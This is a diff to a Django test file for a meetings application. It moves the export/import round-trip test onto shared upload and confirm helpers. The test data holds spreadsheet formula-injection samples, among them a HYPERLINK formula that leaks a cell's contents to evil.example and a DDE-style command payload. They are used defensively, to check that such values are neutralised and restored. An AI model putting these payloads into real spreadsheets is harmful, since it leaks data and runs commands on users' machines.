@@ -6,8 +6,6 @@ import io
 import json
 
 import pytest
-from django.core.files.uploadedfile import SimpleUploadedFile
-from django.urls import reverse
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
@@ -15,7 +13,7 @@ from openpyxl import load_workbook
 from meetings.formats import FORMULA_START, neutralise, restore
 from meetings.models import Meeting, MeetingCountry, Person
 from tests.factories import AttendanceFactory, MeetingFactory, OrganizationFactory, PersonFactory
-from tests.test_import import empty_database, exported
+from tests.test_import import confirm, empty_database, exported, upload
 
 LEAK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
 HOSTILE = [LEAK, "+44 20 7218 9000", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "'=already quoted", "''"]
@@ -87,10 +85,9 @@ def test_hostile_values_travel_there_and_back_exactly(editor_client, url, fmt):
     before = exported(editor_client, url, fmt)
     content = raw_export(editor_client, url, fmt)
     empty_database()
-    upload = SimpleUploadedFile(f"export.{fmt}", content)
-    response = editor_client.post(reverse("import"), {"file": upload, "create_topics": "on"})
+    response = upload(editor_client, content, name=f"export.{fmt}", create_topics="on")
     assert response.context["report"].errors == []
-    editor_client.post(reverse("import-confirm"), {"token": response.context["token"]})
+    confirm(editor_client, response)
     assert exported(editor_client, url, fmt) == before
     if url == "/meetings/":
         assert set(Meeting.objects.values_list("title", flat=True)) == titles
